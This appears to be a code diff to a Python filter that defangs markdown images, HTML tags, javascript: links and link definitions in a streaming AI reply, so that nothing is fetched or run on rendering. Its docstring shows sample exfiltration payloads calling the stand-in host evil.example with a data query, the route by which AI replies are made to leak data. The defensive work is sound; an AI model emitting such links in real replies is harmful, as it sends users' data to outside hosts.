@@ -1,12 +1,13 @@
 r"""A filter for one running reply: what a renderer would fetch or run, and links that hide something, become plain text.
 
-    ![chart](https://evil.example/?d=…)      ->  !\[chart\](https://evil.example/?d=…)
+    ![chart](https://evil.example/?d=…)      ->  ! [chart] (https://evil.example/?d=…)
     <img src=https://evil.example/?d=…>      ->  &lt;img src=https://evil.example/?d=…>
-    [click](javascript:…)                    ->  [click\](javascript:…)
+    [click](javascript:…)                    ->  [click] \(javascript:…)
+    [ref]: https://evil.example/?d=…         ->  [ref] : https://evil.example/?d=…
 
-Everything stays readable, and only a character before it tells. Code stays as it is, if it is code for sure (`blocks`): a fence,
-or a code span on one line. The text is read once, left to right; a decision needs at most `LONGEST` characters more, and only
-what begins like a tag, an image or the end of a link's text is held back until then.
+Everything stays readable. Spaces and not only backslashes, because some renderers undo those inside a link's text. Code stays as it
+is, if it is code for sure (`blocks`): a fence, or a code span on one line. The text is read once, left to right. A decision needs
+at most `LONGEST` characters more, and only what begins like a tag, an image or the end of a link's text is held back until then.
 
 Sources: CommonMark 0.31 6.1 (code spans), 6.3 (links), 6.4 (images), 4.7 (definitions); THREATS O.1, O.2.
 """
@@ -29,29 +30,37 @@ _LONGEST_NAME: Final = 300  # of an image or of a link's text that is compared w
 _SPECIAL = re.compile(r"[<\[\]]")
 _LINE_END = re.compile(r"\n|\r(?!\n)")
 _TOKEN = re.compile(r"[\\`<\[\]$]|\n|\r(?!\n)|-->")
+_CUT_MARKER = re.compile(r"\d{1,9}[.)]?\Z")
 _RUN = re.compile(r"`+")
 _NAME = re.compile(r"\[[^\[\]\\`<\r\n]*+")
-_SPACE = re.compile(r"[ \t]*(?:\r?\n[ \t]*)?")
-_ADDRESS = re.compile(r"<([^<>\r\n]*+)(>?)|(\S*)")
-_CLOSED = re.compile(
-    r"[ \t]*(?:\r?\n[ \t]*)?(?:\"[^\"\\]*+\"|'[^'\\]*+'|\([^()\\]*+\))?[ \t]*(?:\r?\n[ \t]*)?\)"
-)
+_ESCAPED_IMAGE = re.compile(r"\\{1,9}\[")  # an image after all for a renderer that reads a link's text twice
+_CUT_ESCAPE = re.compile(r"\\{1,9}\Z")
+_BARE_ADDRESS = re.compile(r"(?:://|www\.)[^\s<]*\Z", re.IGNORECASE)
+_SPACE = re.compile(r"[ \t]*(?:\r?\n[ \t>]*)?")
+_ADDRESS = re.compile(r"<([^<>\r\n]*+)(>?)|((?:[^\s\]]|\](?!\())*+)")
+_CLOSED = re.compile(r"[ \t]*(?:\r?\n[ \t]*)?(?:\"[^\"\\]*+\"|'[^'\\]*+'|\([^()\\]*+\))?[ \t]*(?:\r?\n[ \t]*)?\)")
 _PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;=>?@[\\]^_`{|}~")  # what a backslash may stand before, but for "<"
 # Decides for most texts that nothing is to be done: tags, images, addresses that aren't plain.
-_CANDIDATE = re.compile(r"<[A-Za-z/!?]|!\[|\](?=[(:])")
-_HARMLESS_TARGET = re.compile(r"\][(:]\s{0,4}(?:https?://[\w.\-]+(?:/[\w.\-/~]*)?(?:#[\w\-]{0,40})?|[\w.\-/#~]*)(?=[\s)])")
+_CANDIDATE = re.compile(r"<[A-Za-z/!?]|!\\{0,9}\[|\](?=[(:])")
+_HARMLESS_TARGET = re.compile(
+    r"\][(:]\s{0,4}(?:https?://[\w.\-]+(?:/[\w.\-/~]*)?(?:#[\w\-]{0,39})?|(?!//)[\w.\-/#~]*)(?=[\s)])"
+)
 _WAITS: Final = -1  # of a reader: only more text can tell
 
 
-def may_need(text: str) -> bool:
+def may_need(text: str, judge: Judge) -> bool:
     """Return whether a whole text holds anything that would be changed outside code; false is the usual, fast case."""
-    if "<" not in text and "](" not in text and "![" not in text and "]:" not in text:
+    if "<" not in text and "[" not in text and "]" not in text:
+        return False  # one character is searched much faster than two
+    if "<" not in text and "](" not in text and "![" not in text and "]:" not in text and "!\\" not in text:
         return False
     for found in _CANDIDATE.finditer(text):
-        if found[0] != "]":
+        at = found.start()
+        if found[0] != "]" or judge.strict or _HARMLESS_TARGET.match(text, at) is None:
             return True
-        if _HARMLESS_TARGET.match(text, found.start()) is None:
-            return True
+        name = text[max(0, at - _LONGEST_NAME) : at].rpartition("[")[2].lower()
+        if "://" in name or "www." in name:
+            return True  # perhaps another address than the link's
     return False
 
 
@@ -125,6 +134,7 @@ class LinkFilter:
                 if not self._begin_line(last=last):
                     return
             elif self._code:
+                self._at = self._blocks.skip(self._text, self._at)
                 end = _LINE_END.search(self._text, self._at)
                 if end is None or (end[0] == "\r" and end.end() == size and not last):
                     self._at = size if end is None else end.start()
@@ -142,7 +152,13 @@ class LinkFilter:
         if end is not None and end[0] == "\r" and end.end() == len(text) and not last:
             return False
         known = end is not None or last
-        if not known and stop - at < LONGEST_LINE and (stop - rest < 3 or text[rest] in "`~"):  # noqa: PLR2004 - a fence has three
+        if (
+            not known
+            and stop - at < LONGEST_LINE
+            and (
+                stop - rest < 3 or text[rest] in "`~" or _CUT_MARKER.match(text, rest)  # noqa: PLR2004 - a fence has three
+            )
+        ):
             return False
         known = known or text[rest : rest + 1] not in ("`", "~")
         line = text[at:stop]
@@ -156,7 +172,7 @@ class LinkFilter:
             self._plain = True
         return True
 
-    def _step(self, *, last: bool) -> bool:
+    def _step(self, *, last: bool) -> bool:  # noqa: C901 - one branch for each kind of mark
         """Read up to and with the next character that says something; return whether reading can go on."""
         text = self._text
         found = _TOKEN.search(text, self._at)
@@ -164,24 +180,35 @@ class LinkFilter:
             kept = 2 if self._blocks.html == "-->" and not last else 1 if text.endswith("\r") and not last else 0
             self._at = max(self._at, len(text) - kept)
             return False
-        at, token = found.start(), found[0]
-        if found.end() == len(text) and not last and token != "\n":
+        at, mark = found.start(), found[0]
+        if found.end() == len(text) and not last and mark != "\n":
             self._at = at
             return False
-        if token == "<":
+        if mark == "<":
             after = self._tag(at, last=last)
-        elif token == "[":
+        elif mark == "[":
             after = self._image(at, last=last) if (text[at - 1 : at] or self._before[-1:]) == "!" else at + 1
-        elif token == "]":
+        elif mark == "]":
             after = self._closing(at, last=last)
-        elif token == "`":
+        elif mark == "`":
             after = self._backticks(at, last=last)
-        elif token == "\\":
-            after = at + 2 if text[at + 1 : at + 2] in _PUNCTUATION else at + 1
+        elif mark == "$":
+            self._money = True
+            twice = text[at + 1 : at + 2] == "$"
+            self._blocks.math ^= twice
+            after = at + 1 + twice
+        elif mark == "\\":
+            image = _ESCAPED_IMAGE.match(text, at) if (text[at - 1 : at] or self._before[-1:]) == "!" else None
+            if image is not None:
+                self._edit(image.end() - 1, " [")
+                self.changed += 1
+            elif not last and _CUT_ESCAPE.match(text, at):
+                self._at = at
+                return False
+            after = image.end() if image is not None else at + 2 if text[at + 1 : at + 2] in _PUNCTUATION else at + 1
         else:
-            self._begins = token in "\n\r"
-            self._money |= token == "$"
-            if token == "-->" and self._blocks.html == token:
+            self._begins = mark in "\n\r"
+            if mark == "-->" and self._blocks.html == mark:
                 self._blocks.end_html()
             after = found.end()
         self._at = at if after == _WAITS else min(after, len(text))
@@ -190,7 +217,7 @@ class LinkFilter:
     def _edit(self, at: int, new: str) -> None:
         self._edits.append((at, at + 1, new))
 
-    def _tag(self, at: int, *, last: bool) -> int:
+    def _tag(self, at: int, *, last: bool) -> int:  # noqa: PLR0911 - one case after another
         text = self._text
         following = text[at + 1 : at + 2]
         if not (following.isascii() and following.isalpha()) and following not in ("/", "!", "?"):
@@ -204,7 +231,7 @@ class LinkFilter:
             if starts and not self._blocks.html:
                 self._blocks.html = "-->"
             self._plain = True
-            return at + 2
+            return at + 4  # for some `<!-->` is a whole comment, for others its beginning
         verdict, after = judge_tag(text, at, self.judge, last=last)
         if verdict is Verdict.MORE:
             return _WAITS
@@ -228,6 +255,10 @@ class LinkFilter:
         begin = run.end() if run is not None else at + 1
         if begin == len(text) and not last:
             return _WAITS
+        if not self._plain and _BARE_ADDRESS.search(
+            (self._before + text[max(0, at - _LONGEST_NAME) : at])[-_LONGEST_NAME:]
+        ):
+            self._plain = True  # an address that is linked as it stands takes the backticks with it
         if self._plain:
             return begin
         end = _LINE_END.search(text, begin, begin + _LONGEST_SPAN)
@@ -245,7 +276,7 @@ class LinkFilter:
         self._plain = True
         return begin
 
-    def _image(self, at: int, *, last: bool) -> int:
+    def _image(self, at: int, *, last: bool) -> int:  # noqa: PLR0911 - one case after another
         text = self._text
         found = _NAME.match(text, at, at + _LONGEST_NAME)
         end = found.end() if found is not None else at + 1
@@ -254,7 +285,7 @@ class LinkFilter:
         if end >= len(text):
             return end  # nothing closes it any more
         if text[end] != "]":
-            return self._defang(at)
+            return self._defang(at, " [")
         if text[end + 1 : end + 2] == "(":
             address, stop = self._address(end + 2, last=last)
             if address is None:
@@ -268,17 +299,17 @@ class LinkFilter:
         elif not self._definitions:
             self._images = True
             return end + 1
-        self._edit(at, "\\[")
-        self._edit(end, "\\]")
+        self._edit(at, " [")
+        self._edit(end, "] ")
         self.changed += 1
         return end + 1
 
-    def _defang(self, at: int) -> int:
-        self._edit(at, f"\\{self._text[at]}")
+    def _defang(self, at: int, new: str) -> int:
+        self._edit(at, new)
         self.changed += 1
         return at + 1
 
-    def _closing(self, at: int, *, last: bool) -> int:
+    def _closing(self, at: int, *, last: bool) -> int:  # noqa: PLR0911 - one case after another
         text = self._text
         following = text[at + 1 : at + 2]
         if following not in ("(", ":"):
@@ -286,24 +317,28 @@ class LinkFilter:
         address, stop = self._address(at + 2, last=last)
         if address is None:
             return _WAITS
+        if following == ":" and _LINE_END.search(text, at, max(at, stop - len(address))):
+            self._blocks.doubtful = True
         name = (self._before + text[:at])[-_LONGEST_NAME:].rpartition("[")[2]
         if following == "(":
-            return at + 2 if stop >= 0 and self.judge.may_link(address, name) else self._defang(at)
-        if has_script(address) and _looks_like_script(address):
-            return self._defang(at)
+            return at + 2 if stop >= 0 and self.judge.may_link(address, name) else self._defang(at, "] \\")
+        if has_script(address) and not address.endswith(":"):  # not "[Note]: warning: …"
+            return self._defang(at, "] ")
         if "/" not in address and "\\" not in address and "&" not in address:
             return at + 2  # prose: nothing would be fetched from elsewhere
         hides = stop < 0 or not self.judge.may_link(address, name)
         if hides or (self._images and not self.judge.may_fetch(address)):
-            return self._defang(at)
+            return self._defang(at, "] ")
         self._definitions |= not self.judge.may_fetch(address)
         return at + 2
 
-    def _address(self, at: int, *, last: bool) -> tuple[str | None, int]:
+    def _address(self, at: int, *, last: bool) -> tuple[str | None, int]:  # noqa: PLR0911 - one case after another
         """Return the address that begins here and where it ends, negative if it is too long; None if more text is needed."""
         text = self._text
         space = _SPACE.match(text, at)
         begin = space.end() if space is not None else at
+        if text[begin:] == "\r" and not last:
+            return None, at
         found = _ADDRESS.match(text, begin, begin + LONGEST)
         if found is None:
             return ("", begin) if last else (None, at)
@@ -326,6 +361,7 @@ class LinkFilter:
         return text[begin:end], _WAITS if end - begin >= LONGEST else end
 
 
-def _looks_like_script(address: str) -> bool:
-    """Return whether it is more than a word and a colon, as in "[Note]: warning: …"."""
-    return not address.endswith(":")
+def defang(text: str, judge: Judge) -> str:
+    """Return a whole text made inert; see `LinkFilter`."""
+    links = LinkFilter(judge=judge)
+    return links.feed(text) + links.finish()
